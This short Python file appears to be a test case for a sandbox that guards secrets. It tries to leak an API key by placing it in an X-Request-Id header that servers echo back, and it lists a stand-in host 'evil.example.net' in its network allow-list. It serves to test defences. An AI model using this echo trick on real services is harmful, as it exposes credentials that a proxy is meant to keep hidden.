# /// attack
# guarantee = "network"
# summary = "Has a server repeat a secret in its answer, by a field that servers repeat."
# reference = "X-Request-Id and its kind"
# success = "the guest reads the value"
# stage = ["internet", "secret"]
# observe = ["secret"]
# needs = ["small-internet"]
# policy = { network = { allow = ["*.example.org:80", "*.example.org:443", "*.example.org:8443", "api.example.com:443", "evil.example.net:443"] } }
# refusal = { default = "proxy goes into one of these header fields" }
# ///

import os

from kit import by_gateway, has_secret, refused, succeeded

KEY = os.environ["API_KEY"]
answer = by_gateway("api.example.org", "/", f"X-Request-Id: {KEY}")
if has_secret(answer):
    succeeded()
refused(answer[:80])
